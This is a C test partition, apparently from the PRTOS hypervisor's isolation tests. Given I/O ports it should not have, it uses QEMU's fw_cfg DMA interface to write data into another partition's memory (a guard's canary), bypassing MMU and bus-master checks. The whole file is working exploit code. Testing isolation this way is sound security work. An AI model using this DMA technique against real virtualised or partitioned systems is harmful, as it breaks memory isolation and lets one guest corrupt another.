/*
 * attack_fwcfg_dma, P0 (normal): owns ports 0x514-0x51b, QEMU's fw_cfg DMA
 * address register (in a configuration forged after prtoscc, which refuses it).
 * A DMA request is a descriptor in memory (control, length, physical address,
 * big-endian); writing the descriptor's physical address to the register makes
 * the device copy the selected item there, with no MMU and no bus-master check.
 * It first copies the 4-byte signature ("QEMU") into its own memory, then into
 * the guard's canary.
 */
#include <prtos.h>
#include <stdio.h>

#define FW_CFG_SIGNATURE 0x0000
#define CTL_READ 0x02
#define CTL_SELECT 0x08
#define GUARD_CANARY 0x06003E20U /* printed by the guard: "[Guard] canary at 0x6003E20" */

struct dma_access {
	prtos_u32_t control, length;
	prtos_u32_t address_hi, address_lo;
} __attribute__((aligned(16)));

static volatile struct dma_access req;
static volatile prtos_u32_t mine[4];

static prtos_u32_t be32(prtos_u32_t v)
{
	return __builtin_bswap32(v);
}

static void outl(prtos_u16_t port, prtos_u32_t v)
{
	__asm__ volatile("outl %0, %1" : : "a"(v), "Nd"(port));
}

/* Areas are identity-mapped here: virtual addresses are physical ones. */
static prtos_u32_t dma_read(prtos_u16_t key, prtos_u32_t phys, prtos_u32_t len)
{
	req.control = be32(((prtos_u32_t)key << 16) | CTL_SELECT | CTL_READ);
	req.length = be32(len);
	req.address_hi = 0;
	req.address_lo = be32(phys);
	outl(0x514, 0);
	outl(0x518, be32((prtos_u32_t)&req));
	return be32(req.control); /* 0 when done, bit 0 on error */
}

void partition_main(void)
{
	prtos_u32_t r;

	prtos_idle_self();
	prtos_idle_self();
	r = dma_read(FW_CFG_SIGNATURE, (prtos_u32_t)&mine[1], 4);
	printf("[Rogue] DMA into my memory: control 0x%x, word 0x%x\n", r, mine[1]);
	if (mine[1] == 0x554D4551U) { /* "QEMU" */
		r = dma_read(FW_CFG_SIGNATURE, GUARD_CANARY + 8, 4);
		printf("[Rogue] DMA into the guard's canary at 0x%x: control 0x%x: wrote "
		       "another partition's memory\n",
		       GUARD_CANARY + 8, r);
	}
	for (;;)
		prtos_idle_self();
}
